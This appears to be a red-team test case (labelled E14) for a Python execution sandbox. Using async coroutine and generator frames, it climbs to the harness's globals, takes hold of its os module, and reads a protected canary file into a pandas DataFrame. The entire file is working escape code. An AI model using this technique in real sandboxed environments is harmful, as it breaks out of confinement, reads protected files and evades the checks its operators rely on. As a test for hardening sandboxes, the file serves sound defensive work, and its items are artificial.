# technique: a running coroutine's cr_frame / async generator's ag_frame are frame objects without sys._getframe; f_back.f_globals reach the harness's os module -> read the canary
# goal: read
# redteam: E14
import pandas as pd


async def coro():
    return c.cr_frame.f_back


async def agen():
    yield a.ag_frame.f_back


c = coro()
a = agen()
starts = []
try:
    c.send(None)
except StopIteration as stop:
    starts.append(stop.value)
try:
    a.asend(None).send(None)
except StopIteration as stop:
    starts.append(stop.value)
stolen = None
for frame in starts:
    while frame is not None and stolen is None:
        module_os = frame.f_globals.get("os")
        if module_os is not None and hasattr(module_os, "open"):
            fd = module_os.open("{{CANARY_FILE}}", module_os.O_RDONLY)
            stolen = module_os.read(fd, 4096).decode("latin-1")
        frame = frame.f_back
if not stolen:
    raise RuntimeError("no frame with os in its globals")
df = pd.DataFrame({"stolen": [stolen]})
